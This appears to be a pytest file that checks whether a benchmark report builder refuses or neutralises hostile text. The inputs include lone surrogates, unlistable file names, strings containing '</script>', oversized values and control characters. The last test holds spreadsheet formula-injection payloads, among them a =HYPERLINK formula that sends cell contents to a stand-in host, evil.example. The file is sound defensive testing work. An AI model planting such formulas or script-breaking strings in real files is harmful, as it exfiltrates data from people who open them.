"""Text attacks: lone surrogates, file names the receipts cannot list, characters that end a
JavaScript string, very long labels and values, spreadsheet formulas."""

from __future__ import annotations

import json
import os

import pytest
import vl_convert as vlc

from benchproof.charts.view import VL_VERSION
from hostile.attack import ARMS, REPORT, built, check, csv_matches_jsonl, project, refused, refused_both
from support.common import page

ROWS = [{"arm": arm, "status": "ok", "repeat": i, "size": 512, "tok_s": 10 + i} for arm in "ab" for i in (1, 2, 3)]


def jsonl_with(line2: str) -> str:
    lines = [json.dumps(r) for r in ROWS]
    lines[1] = line2
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize(
    "line",
    [
        '{"arm": "a", "status": "ok", "repeat": 2, "size": 512, "tok_s": 3, "note": "\\ud800"}',
        '{"arm": "a", "status": "ok", "repeat": 2, "size": 512, "tok_s": 3, "n\\udfffote": "x"}',
        '{"arm": "a", "status": "ok", "repeat": 2, "size": "x\\udc80", "tok_s": 3}',
    ],
)
def test_a_lone_surrogate_in_json_lines_is_refused_at_its_line(tmp_path, line):
    root = project(tmp_path / "p", runs={"r.jsonl": jsonl_with(line)})
    refused_both(root, tmp_path / "site", "runs/r.jsonl:2", "lone surrogate")


def test_a_lone_surrogate_in_a_json_array_is_refused_at_its_line(tmp_path):
    items = [json.dumps(r) for r in ROWS]
    items[2] = items[2].replace('"ok"', '"ok", "note": "\\ud834"')
    root = project(tmp_path / "p", runs={"r.json": "[\n" + ",\n".join(items) + "\n]\n"})
    refused(check(root), "runs/r.json:4", "lone surrogate")


def test_an_escaped_surrogate_pair_is_a_character_and_builds(tmp_path):
    line = json.dumps(dict(ROWS[1], note="\U0001f600 ok"), ensure_ascii=True)
    root = project(tmp_path / "p", runs={"r.jsonl": jsonl_with(line)})
    built(root, tmp_path / "site", tmp_path)
    assert "\U0001f600 ok" in (tmp_path / "site/downloads/records.jsonl").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "where, arms, report",
    [
        ("arms/a.yaml:1", {**ARMS, "a": 'label: "A \\ud800"\n'}, REPORT),
        ("report.yaml:1", ARMS, REPORT.replace("title: Hostile", 'title: "\\udfff"')),
        ("arms/b.yaml:2", {**ARMS, "b": 'label: B\nsettings: {"\\ud800": 1}\n'}, REPORT),
    ],
)
def test_a_lone_surrogate_in_yaml_is_refused_at_its_line(tmp_path, where, arms, report):
    root = project(tmp_path / "p", arms=arms, report=report)
    refused_both(root, tmp_path / "site", where, "lone surrogate")


@pytest.mark.parametrize(
    "name, shown",
    [
        ("evidence/line\nbreak.log", "evidence/line\\nbreak.log"),
        ("evidence/carriage\rreturn.log", "evidence/carriage\\rreturn.log"),
        ("evidence/trailing.log ", "evidence/trailing.log "),
        ("evidence/folder /x.log", "evidence/folder /x.log"),
        ("evidence/back\\slash.log", "evidence/back\\slash.log"),
        ("notes/tab\there.md", "notes/tab\\there.md"),
        ("runs/more\n.csv", "runs/more\\n.csv"),
    ],
)
def test_file_names_the_receipts_cannot_list_are_refused(tmp_path, name, shown):
    root = project(tmp_path / "p", files={name: "hello\n"})
    refused_both(root, tmp_path / "site", shown, "rename it")


@pytest.mark.parametrize("folder", ["evidence", "runs", "arms"])
def test_a_file_name_that_is_not_utf8_is_refused(tmp_path, folder):
    root = project(tmp_path / "p")
    os.makedirs(os.path.join(root, folder), exist_ok=True)
    with open(os.path.join(os.fsencode(root), folder.encode(), b"caf\xe9.csv"), "w") as f:
        f.write("hello\n")
    refused_both(root, tmp_path / "site", f"{folder}/caf\\xe9.csv", "not valid UTF-8")


ENDS_A_STRING = "Q\u2028\"q' \\ \u2029 </script>"


def _vega_expressions(node, found: list[str]) -> list[str]:
    """Every expression string of a compiled Vega spec."""
    if isinstance(node, dict):
        for key, value in node.items():
            if key in ("expr", "signal", "update", "calculate", "test", "labelExpr", "filter") and isinstance(
                value, str
            ):
                found.append(value)
            _vega_expressions(value, found)
    elif isinstance(node, list):
        for item in node:
            _vega_expressions(item, found)
    return found


def test_labels_that_end_a_javascript_string_are_data_never_expression_source(tmp_path):
    report = (
        REPORT.replace("label: Tok/s", f"label: {json.dumps('Tok' + ENDS_A_STRING)}")
        .replace("title: Main", f"title: {json.dumps('Main' + ENDS_A_STRING)}")
        .replace("label: Size", f"label: {json.dumps('Size' + ENDS_A_STRING)}")
    )
    arms = {
        "a": f"label: {json.dumps('Arm A' + ENDS_A_STRING)}\n",
        "b": f"label: {json.dumps('Arm B' + ENDS_A_STRING)}\n",
    }
    runs = "".join(json.dumps(dict(r, size="S" + ENDS_A_STRING)) + "\n" for r in ROWS)
    root = project(tmp_path / "p", report=report, arms=arms, runs={"r.jsonl": runs})
    built(root, tmp_path / "site", tmp_path)
    svgs = list((tmp_path / "site/charts").glob("*.svg"))
    assert len(svgs) == 1 and "Arm A" in svgs[0].read_text(encoding="utf-8")
    payload = page(tmp_path / "site/index.html").select_one("script#chart-views").string
    for view in json.loads(payload)["views"]:
        vega = vlc.vegalite_to_vega(view["spec"], vl_version=VL_VERSION)
        assert not [e for e in _vega_expressions(vega, []) if "\u2028" in e or "Arm " in e]


@pytest.mark.parametrize(
    "where, arms, report, runs",
    [
        ("arms/a.yaml:1", {**ARMS, "a": "label: " + "A" * 100_000 + "\n"}, REPORT, None),
        ("report.yaml:3", ARMS, REPORT.replace("label: Tok/s", "label: " + "T" * 100_000), None),
        ("report.yaml:3", ARMS, REPORT.replace("unit: tok/s", "unit: " + "u" * 100_000), None),
        ("report.yaml:4", ARMS, REPORT.replace("label: Size", "label: " + "S" * 100_000), None),
        ("report.yaml:6", ARMS, REPORT.replace("title: Main", "title: " + "M" * 100_000), None),
        ("report.yaml:1", ARMS, REPORT.replace("title: Hostile", "title: " + "H" * 100_000), None),
        (
            "runs/r.csv:3",
            ARMS,
            REPORT,
            {"r.csv": f"arm,status,repeat,size,tok_s\na,ok,1,512,1\nb,ok,1,{'y' * 100_000},1\n"},
        ),
        ("runs/r.csv:2", ARMS, REPORT, {"r.csv": f"arm,status,repeat,size,tok_s\na,ok,1,{'x' * 100_000},1\n"}),
    ],
)
def test_very_long_labels_and_values_are_refused_quickly(tmp_path, where, arms, report, runs):
    root = project(tmp_path / "p", arms=arms, report=report, runs=runs)
    refused_both(root, tmp_path / "site", where, "characters long")


@pytest.mark.parametrize(
    "where, arms, size, char",
    [
        ("arms/a.yaml:1", {**ARMS, "a": 'label: "A\\0B"\n'}, 512, "U+0000"),
        ("arms/b.yaml:1", {**ARMS, "b": 'label: "\\e[31mred"\n'}, 512, "U+001B"),
        ("runs/r.jsonl:1", ARMS, "v\u0001", "U+0001"),
    ],
)
def test_control_characters_a_chart_cannot_draw_are_refused(tmp_path, where, arms, size, char):
    runs = "".join(json.dumps(dict(r, size=size if i == 0 else 512)) + "\n" for i, r in enumerate(ROWS))
    root = project(tmp_path / "p", arms=arms, runs={"r.jsonl": runs})
    refused_both(root, tmp_path / "site", where, f"holds the control character {char}")


def test_a_very_long_arm_id_is_refused(tmp_path):
    long_id = "a" * 200
    root = project(tmp_path / "p", arms={**ARMS, long_id: "label: Long\n"})
    refused_both(root, tmp_path / "site", f"arms/{long_id}.yaml:1", "is 200 characters long; at most 64")


def test_long_dimension_values_and_slug_clashes_give_bounded_distinct_chart_files(tmp_path):
    values = ["a b", "a-b", "a/b", "x" * 300 + "1", "x" * 300 + "2"]
    runs = "".join(json.dumps(dict(r, size=v, repeat=r["repeat"])) + "\n" for r in ROWS for v in values)
    root = project(tmp_path / "p", runs={"r.jsonl": runs})
    built(root, tmp_path / "site", tmp_path)
    charts = sorted((tmp_path / "site/charts").glob("*.svg"))
    assert len(charts) == len(values)
    assert all(len(p.name.encode()) <= 128 for p in (tmp_path / "site").rglob("*"))


def test_every_records_csv_cell_is_neutralised_headers_and_bare_carriage_returns_included(tmp_path):
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1)", "+1+1", "-1+cmd", "\t=1", "'=1"]
    rows = [
        dict(
            r,
            note=f"line\r{evil[i % len(evil)]}",
            other=evil[i % len(evil)],
            neg="-1_0",
            num="-5",
            **{evil[0]: "x", "'quoted": "y"},
        )
        for i, r in enumerate(ROWS)
    ]
    root = project(tmp_path / "p", runs={"r.jsonl": "".join(json.dumps(r) + "\n" for r in rows)})
    built(root, tmp_path / "site", tmp_path)
    rows = csv_matches_jsonl(tmp_path / "site")
    assert "'" + evil[0] in rows[0] and "''quoted" in rows[0]
    assert "'-1_0" in rows[1] and "-5" in rows[1]
